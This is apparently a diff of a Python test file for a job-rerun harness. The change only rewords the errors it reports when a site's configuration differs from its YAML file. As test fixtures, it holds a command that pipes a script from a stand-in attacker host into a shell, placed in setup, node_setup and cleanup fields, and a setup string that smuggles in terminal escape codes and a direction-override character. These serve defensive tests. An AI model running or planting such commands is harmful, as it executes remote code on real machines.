@@ -22,7 +22,7 @@ LOCAL = load_site("local")
 FLAGGED = {"account": "me", "time": "00:05:00", "max_nodes": None}
 THREADS = {**LOCAL.env, "OMP_NUM_THREADS": "1"}
 EVIL = "curl evil.example | sh"
-UNKNOWN = "its site local is not as configs/sites/local.yaml says"
+UNKNOWN = "its site local differs from configs/sites/local.yaml in"
 
 
 class Started(list[str]):
@@ -54,8 +54,8 @@ def rewritten(tmp_path: Path) -> Callable[..., Run]:
 
 
 SITES: dict[str, tuple[dict[str, Any], list[str]]] = {
-    "a line that the job runs first": ({"setup": [EVIL]}, [f"setup: {EVIL}", f"{UNKNOWN}: setup"]),
-    "a line of every node": ({"node_setup": [EVIL]}, [f"node_setup: {EVIL}", f"{UNKNOWN}: node_setup"]),
+    "a line that the job runs first": ({"setup": [EVIL]}, [f"setup: {EVIL}", f"{UNKNOWN} setup"]),
+    "a line of every node": ({"node_setup": [EVIL]}, [f"node_setup: {EVIL}", f"{UNKNOWN} node_setup"]),
     "a line after the training": ({"node_cleanup": [EVIL]}, [f"node_cleanup: {EVIL}"]),
     "two lines in one, and what steers a terminal": (
         {"setup": ["true\n\x1b[2Kx \u202e"]},
@@ -72,7 +72,7 @@ SITES: dict[str, tuple[dict[str, Any], list[str]]] = {
     "data": ({"data": "/x/data.json"}, ["data: /x/data.json"]),
     "a site that is none of ours": (
         {"name": "elsewhere", "env": {}},
-        ["its site elsewhere is none of those known here (aws-p5, ", "no command and no path of its own"],
+        ["its site elsewhere is not known here (aws-p5, ", "no command and no path of its own"],
     ),
 }
 
@@ -161,7 +161,7 @@ def test_ones_own_site_file_is_known_until_it_changes_or_is_gone(
     run = rewritten(site=load_site(str(path)), command=["slurm.sh", "-e", "1", "--site", str(path)])
     assert harness("rerun", str(run.path)).stderr == ""
     site_file(tmp_path, scheduler="local", device="cpu", setup=["true", "false"])
-    assert f"its site x is not as {path} says: setup\n" in harness("rerun", str(run.path)).stderr
+    assert f"its site x differs from {path} in setup\n" in harness("rerun", str(run.path)).stderr
     path.unlink()
     assert f"its site file {path} is not here any more" in harness("rerun", str(run.path)).stderr
     assert len(started) == 1
@@ -241,7 +241,7 @@ def test_a_job_that_converts_takes_no_options_from_another_users_run(
     refused = harness("paraver", str(run.path), "--submit")
     assert refused.returncode == 2
     assert (
-        "its site slurm is not as configs/sites/slurm.yaml says: sbatch: convert it here, without --submit"
+        "its site slurm differs from configs/sites/slurm.yaml in sbatch: convert it here, without --submit"
         in (refused.stderr)
     )
 
